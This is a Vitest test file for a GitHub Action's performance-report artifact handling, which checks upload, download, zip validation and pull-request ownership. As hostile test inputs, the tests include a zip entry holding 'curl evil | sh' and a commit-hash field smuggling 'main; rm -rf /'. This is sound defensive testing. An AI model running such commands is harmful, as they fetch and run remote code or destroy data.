import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { compareProfiles } from '../../src/compare/compare.js';
import { CorruptFileError, EnvironmentError, InputError, ServiceError } from '../../src/errors.js';
import type { ProfileDocument } from '../../src/profile/profile.js';
import type * as ArtifactModule from '../../src/publish/artifact.js';
import { listingFailure } from '../../src/publish/artifact-transfer.js';
import type * as OwnershipModule from '../../src/publish/report-ownership.js';
import { type ActionsServices, startActionsServices, zipOf } from '../support/actions-services.js';
import { memoryLogger } from '../support/memory-logger.js';

const HEAD_SHA = '1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e';
const OTHER_SHA = 'c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00';

async function fixtureProfile(name: string): Promise<ProfileDocument> {
  const text = await readFile(new URL(`../fixtures/profiles/${name}`, import.meta.url), 'utf8');
  return JSON.parse(text) as ProfileDocument;
}

const metadataOf = (value: unknown) => Buffer.from(JSON.stringify(value));

describe('GitHubReportArtifacts through the Actions artifact service and the REST API', () => {
  let services: ActionsServices;
  let artifactModule: typeof ArtifactModule;
  let savedEnv: NodeJS.ProcessEnv;
  let runnerTemp: string;
  let log: ReturnType<typeof memoryLogger>;
  let artifacts: ArtifactModule.GitHubReportArtifacts;
  let comparisonJson: string;
  let source: string;

  beforeAll(async () => {
    services = await startActionsServices({
      repository: 'octo-org/octo-repo',
      workflowRunId: 4242,
    });
    savedEnv = { ...process.env };
    Object.assign(process.env, services.env);
    // @actions/github reads GITHUB_API_URL once, when first imported.
    artifactModule = await import('../../src/publish/artifact.js');
    const comparison = compareProfiles(
      await fixtureProfile('textbench-base.json'),
      await fixtureProfile('textbench-head.json'),
      { threshold: 0.01, functionThreshold: 0.001 },
    );
    comparisonJson = `${JSON.stringify(comparison, null, 2)}\n`;
    source = 'artifact rust-perf-report of workflow run 4242';
  });

  afterAll(async () => {
    process.env = savedEnv;
    await services.close();
  });

  beforeEach(async () => {
    runnerTemp = await mkdtemp(join(tmpdir(), 'rust-perf-artifact-test-'));
    process.env.GITHUB_WORKSPACE = runnerTemp;
    log = memoryLogger();
    artifacts = new artifactModule.GitHubReportArtifacts({
      log,
      tempDir: runnerTemp,
      token: services.githubToken,
      owner: 'octo-org',
      repo: 'octo-repo',
    });
    services.artifacts.length = 0;
    services.requests.length = 0;
    // The artifact library reports through @actions/core, which writes to stdout.
    vi.spyOn(process.stdout, 'write').mockImplementation(() => true);
  });

  afterEach(async () => {
    vi.restoreAllMocks();
    await rm(runnerTemp, { recursive: true, force: true });
  });

  /** Plants a hostile artifact in run 4242 and returns what downloading it rejects with. */
  async function downloadPlanted(zip: Buffer, digest?: string): Promise<unknown> {
    services.plantArtifact(4242, 'rust-perf-report', zip, digest);
    return artifacts.download(4242).then(
      () => 'downloaded',
      (error: unknown) => error,
    );
  }

  const validMetadata = () => metadataOf({ version: 1, prNumber: 17, headSha: HEAD_SHA });

  it('uploads the report and downloads it again from the run, unchanged', async () => {
    await artifacts.upload({ prNumber: 17, headSha: HEAD_SHA, comparisonJson });

    expect(services.artifacts.map((a) => [a.workflowRunId, a.name])).toEqual([
      [4242, 'rust-perf-report'],
    ]);
    expect(await artifacts.download(4242)).toEqual({
      prNumber: 17,
      headSha: HEAD_SHA,
      comparisonJson,
    });
    expect(log.lines).toEqual([
      'Uploaded the report of pull request #17 as artifact rust-perf-report (id 1000).',
      'Downloaded the report of pull request #17 from workflow run 4242.',
    ]);
    expect(services.requests).toContain(
      'GET /repos/octo-org/octo-repo/actions/runs/4242/artifacts',
    );
    expect(services.requests).toContain('GET /repos/octo-org/octo-repo/actions/artifacts/1000/zip');
  });

  it('leaves nothing behind in the temporary directory', async () => {
    await artifacts.upload({ prNumber: 17, headSha: HEAD_SHA, comparisonJson });
    await artifacts.download(4242);

    expect(await readdir(runnerTemp)).toEqual([]);
  });

  it('fails the upload with what to do when the run already holds a report', async () => {
    await artifacts.upload({ prNumber: 17, headSha: HEAD_SHA, comparisonJson });

    const second = artifacts.upload({ prNumber: 17, headSha: HEAD_SHA, comparisonJson });
    await expect(second).rejects.toBeInstanceOf(EnvironmentError);
    await expect(second).rejects.toMatchObject({
      message: expect.stringMatching(
        /^Uploading the rust-perf-report artifact failed: .*already exists/,
      ),
      hint: 'A workflow run holds one such artifact, so run mode: measure in a single job per workflow; otherwise re-run the job.',
    });
  });

  it('says what to check when the triggering run has no report', async () => {
    await artifacts.upload({ prNumber: 17, headSha: HEAD_SHA, comparisonJson });

    const download = artifacts.download(77);
    await expect(download).rejects.toBeInstanceOf(InputError);
    await expect(download).rejects.toThrow('Workflow run 77 has no rust-perf-report artifact.');
  });

  it('says which permission is missing when the token may not read the run', async () => {
    await artifacts.upload({ prNumber: 17, headSha: HEAD_SHA, comparisonJson });
    const withoutAccess = new artifactModule.GitHubReportArtifacts({
      log,
      tempDir: runnerTemp,
      token: 'ghs_not_the_right_token',
      owner: 'octo-org',
      repo: 'octo-repo',
    });

    const download = withoutAccess.download(4242);
    await expect(download).rejects.toBeInstanceOf(InputError);
    await expect(download).rejects.toMatchObject({
      message: 'The github-token may not read the artifacts of workflow run 4242: Bad credentials',
      hint: 'Give the job `permissions: actions: read` (and pull-requests: write to comment).',
    });
  });

  it('says that the service failed, and what to do, when it cannot be reached', async () => {
    await artifacts.upload({ prNumber: 17, headSha: HEAD_SHA, comparisonJson });
    services.down = true;
    try {
      const download = artifacts.download(4242);
      await expect(download).rejects.toBeInstanceOf(ServiceError);
      await expect(download).rejects.toMatchObject({
        message: expect.stringMatching(
          /^Finding the report artifact of workflow run 4242 failed: /,
        ),
        hint: 'The service may be having trouble: re-run the job later (https://www.githubstatus.com).',
      });
    } finally {
      services.down = false;
    }
    // The artifact library's own retries take about half a minute.
  }, 120_000);

  it('accepts a report zipped by another writer, stored or deflated', async () => {
    const zip = zipOf([
      { name: 'comparison.json', content: Buffer.from(comparisonJson), deflate: false },
      { name: 'metadata.json', content: validMetadata() },
    ]);
    expect(await downloadPlanted(zip)).toBe('downloaded');
  });

  it.each([
    [
      'a file besides the report',
      () =>
        zipOf([
          { name: 'metadata.json', content: validMetadata() },
          { name: 'comparison.json', content: Buffer.from(comparisonJson) },
          { name: 'run.sh', content: Buffer.from('curl evil | sh') },
        ]),
      'holds 3 entries, expected exactly metadata.json and comparison.json',
    ],
    [
      'a path that climbs out of the directory',
      () =>
        zipOf([
          { name: '../metadata.json', content: validMetadata() },
          { name: 'comparison.json', content: Buffer.from(comparisonJson) },
        ]),
      'holds "../metadata.json", expected exactly metadata.json and comparison.json',
    ],
    [
      'the same file twice',
      () =>
        zipOf([
          { name: 'metadata.json', content: validMetadata() },
          { name: 'metadata.json', content: validMetadata() },
        ]),
      'holds "metadata.json", expected exactly metadata.json and comparison.json',
    ],
    [
      'only the metadata',
      () => zipOf([{ name: 'metadata.json', content: validMetadata() }]),
      'holds 1 entries, expected exactly metadata.json and comparison.json',
    ],
    ['bytes that are not a zip', () => Buffer.from('{"prNumber": 17}'), 'is not a zip archive'],
    [
      'a zip bomb: 40 MiB of zeros in a few KiB',
      () =>
        zipOf([
          { name: 'metadata.json', content: validMetadata() },
          { name: 'comparison.json', content: Buffer.alloc(40 * 1024 * 1024) },
        ]),
      'unpacks to more than 33554432 bytes',
    ],
    [
      'a file that unpacks to more than its recorded size',
      () =>
        zipOf([
          { name: 'metadata.json', content: validMetadata() },
          { name: 'comparison.json', content: Buffer.alloc(1_000_000), recordedSize: 100 },
        ]),
      /^holds comparison\.json compressed in a way that does not unpack \(/,
    ],
    [
      'content that does not match its checksum',
      () =>
        zipOf([
          { name: 'metadata.json', content: validMetadata(), recordedCrc: 12345 },
          { name: 'comparison.json', content: Buffer.from(comparisonJson) },
        ]),
      'holds metadata.json with content that does not match its recorded size and checksum',
    ],
    [
      'an encrypted file',
      () =>
        zipOf([
          { name: 'metadata.json', content: validMetadata(), flags: 1 },
          { name: 'comparison.json', content: Buffer.from(comparisonJson) },
        ]),
      'holds metadata.json encrypted',
    ],
    [
      'an unknown compression method',
      () =>
        zipOf([
          { name: 'metadata.json', content: validMetadata(), deflate: false, method: 12 },
          { name: 'comparison.json', content: Buffer.from(comparisonJson) },
        ]),
      'holds metadata.json compressed with zip method 12; only stored and deflated are read',
    ],
    [
      'a truncated archive',
      () => {
        const zip = zipOf([
          { name: 'metadata.json', content: validMetadata() },
          { name: 'comparison.json', content: Buffer.from(comparisonJson) },
        ]);
        // Cut out the middle of the data but keep the directory at the end.
        return Buffer.concat([zip.subarray(0, 60), zip.subarray(zip.length - 130)]);
      },
      /^(?:has a damaged|is truncated)/,
    ],
  ] as const)('rejects an archive with %s', async (_, build, reason) => {
    const error = await downloadPlanted(build());
    expect(error).toBeInstanceOf(CorruptFileError);
    const message = (error as Error).message;
    expect(message.startsWith(`${source}: `)).toBe(true);
    const detail = message.slice(source.length + 2);
    if (typeof reason === 'string') expect(detail).toBe(reason);
    else expect(detail).toMatch(reason);
  });

  it('rejects an artifact larger than a report can be before downloading it', async () => {
    const error = await downloadPlanted(Buffer.alloc(33 * 1024 * 1024));

    expect(error).toBeInstanceOf(CorruptFileError);
    expect((error as Error).message).toBe(
      `${source}: is 34603008 bytes, more than the 33554432 such an artifact may take`,
    );
    expect(services.requests.filter((r) => r.endsWith('/zip'))).toEqual([]);
  });

  it('rejects an artifact whose content does not match the digest the service recorded', async () => {
    const zip = zipOf([
      { name: 'metadata.json', content: validMetadata() },
      { name: 'comparison.json', content: Buffer.from(comparisonJson) },
    ]);
    const error = await downloadPlanted(zip, `sha256:${'0'.repeat(64)}`);

    expect(error).toBeInstanceOf(CorruptFileError);
    expect((error as Error).message).toBe(
      `${source}: does not match the digest recorded at upload`,
    );
  });

  it.each([
    ['not JSON', Buffer.from('{"prNumber": 17,'), /^is not valid JSON \(/],
    ['an array', metadataOf([17, HEAD_SHA]), /^is not a JSON object$/],
    [
      'an extra field',
      metadataOf({ version: 1, prNumber: 17, headSha: HEAD_SHA, comment: 'hi' }),
      /^has the fields comment, headSha, prNumber, version, expected exactly version, prNumber and headSha$/,
    ],
    [
      'another version',
      metadataOf({ version: 2, prNumber: 17, headSha: HEAD_SHA }),
      /^has version 2, expected 1$/,
    ],
    [
      'a pull request number as text',
      metadataOf({ version: 1, prNumber: '17', headSha: HEAD_SHA }),
      /^has prNumber "17", expected a positive whole number$/,
    ],
    [
      'pull request number 0',
      metadataOf({ version: 1, prNumber: 0, headSha: HEAD_SHA }),
      /^has prNumber 0, expected a positive whole number$/,
    ],
    [
      'a fractional pull request number',
      metadataOf({ version: 1, prNumber: 17.5, headSha: HEAD_SHA }),
      /^has prNumber 17\.5, expected a positive whole number$/,
    ],
    [
      'a head that is not a commit hash',
      metadataOf({ version: 1, prNumber: 17, headSha: 'main; rm -rf /' }),
      /^has headSha "main; rm -rf \/", expected a commit hash$/,
    ],
  ])('rejects metadata that is %s', async (_, metadata, reason) => {
    const error = await downloadPlanted(
      zipOf([
        { name: 'metadata.json', content: metadata },
        { name: 'comparison.json', content: Buffer.from(comparisonJson) },
      ]),
    );

    expect(error).toBeInstanceOf(CorruptFileError);
    const prefix = `${source}: metadata.json: `;
    expect((error as Error).message.startsWith(prefix)).toBe(true);
    expect((error as Error).message.slice(prefix.length)).toMatch(reason);
  });

  it('rejects a comparison that is not a valid JSON report', async () => {
    const error = await downloadPlanted(
      zipOf([
        { name: 'metadata.json', content: validMetadata() },
        { name: 'comparison.json', content: Buffer.from('{"version": 1, "regressed": "yes"}') },
      ]),
    );

    expect(error).toBeInstanceOf(CorruptFileError);
    expect((error as Error).message.startsWith(`${source}: comparison.json`)).toBe(true);
    expect((error as CorruptFileError).hint).toBe(
      "Nothing was posted. The artifact was not written by this version of rust-perf's " +
        '`mode: measure`, or was changed after its upload: re-run the measuring workflow.',
    );
  });
});

describe('verifyReportPullRequest', () => {
  let verifyReportPullRequest: typeof OwnershipModule.verifyReportPullRequest;

  beforeAll(async () => {
    ({ verifyReportPullRequest } = await import('../../src/publish/report-ownership.js'));
  });

  const neverAsked = async (prNumber: number): Promise<string> => {
    throw new Error(`looked up pull request #${prNumber}`);
  };

  it('accepts a pull request of the run that measured the same head commit', async () => {
    const run = { head_sha: HEAD_SHA, pull_requests: [{ number: 3 }, { number: 17 }] };

    expect(
      await verifyReportPullRequest(run, { prNumber: 17, headSha: HEAD_SHA }, neverAsked),
    ).toBe(17);
  });

  it('rejects a report that claims another head commit than the run measured', async () => {
    const run = { head_sha: HEAD_SHA, pull_requests: [{ number: 17 }] };

    const verdict = verifyReportPullRequest(run, { prNumber: 17, headSha: OTHER_SHA }, neverAsked);
    await expect(verdict).rejects.toBeInstanceOf(InputError);
    await expect(verdict).rejects.toThrow(
      `The report artifact claims to measure commit ${OTHER_SHA}, but the workflow run that uploaded it ran on ${HEAD_SHA}; it is not published.`,
    );
  });

  it('rejects a report that names a pull request the run does not belong to', async () => {
    const run = { head_sha: HEAD_SHA, pull_requests: [{ number: 3 }, { number: 4 }] };

    await expect(
      verifyReportPullRequest(run, { prNumber: 17, headSha: HEAD_SHA }, neverAsked),
    ).rejects.toThrow(
      'The report artifact names pull request #17, but the workflow run that uploaded it belongs to #3, #4; it is not published.',
    );
  });

  it('for a fork (no pull requests in the payload) accepts the pull request whose head is the measured commit', async () => {
    const asked: number[] = [];
    const head = async (prNumber: number) => {
      asked.push(prNumber);
      return HEAD_SHA;
    };

    expect(
      await verifyReportPullRequest(
        { head_sha: HEAD_SHA, pull_requests: [] },
        { prNumber: 17, headSha: HEAD_SHA },
        head,
      ),
    ).toBe(17);
    expect(asked).toEqual([17]);
  });

  it('for a fork rejects a pull request whose head is another commit', async () => {
    const verdict = verifyReportPullRequest(
      { head_sha: HEAD_SHA, pull_requests: [] },
      { prNumber: 17, headSha: HEAD_SHA },
      async () => OTHER_SHA,
    );

    await expect(verdict).rejects.toBeInstanceOf(InputError);
    await expect(verdict).rejects.toMatchObject({
      message: `The report artifact names pull request #17, whose head is ${OTHER_SHA}, not the measured commit ${HEAD_SHA}; it is not published.`,
      hint: 'If the pull request was updated since, the run for its new head will publish a report.',
    });
  });
});

describe('a failure to list the artifacts of a run', () => {
  const rejected = (status: number, message: string) =>
    Object.assign(new Error(message), { status });

  it('is the token’s when GitHub refuses it', () => {
    const failure = listingFailure(rejected(403, 'Resource not accessible by integration'), 7, 'x');
    expect(failure).toBeInstanceOf(InputError);
    expect(failure).toMatchObject({
      message:
        'The github-token may not read the artifacts of workflow run 7: Resource not accessible by integration',
      hint: 'Give the job `permissions: actions: read` (and pull-requests: write to comment).',
    });
  });

  it('is the service’s when a rate limit, also a 403, outlasted the retries', () => {
    const failure = listingFailure(
      rejected(403, 'You have exceeded a secondary rate limit'),
      7,
      'the shard artifacts',
    );
    expect(failure).toBeInstanceOf(ServiceError);
    expect(failure).toMatchObject({
      message:
        'Finding the shard artifacts of workflow run 7 failed: 403 You have exceeded a secondary rate limit',
      hint: "GitHub's rate limit was still reached after the retries: re-run the job later.",
    });
  });
});
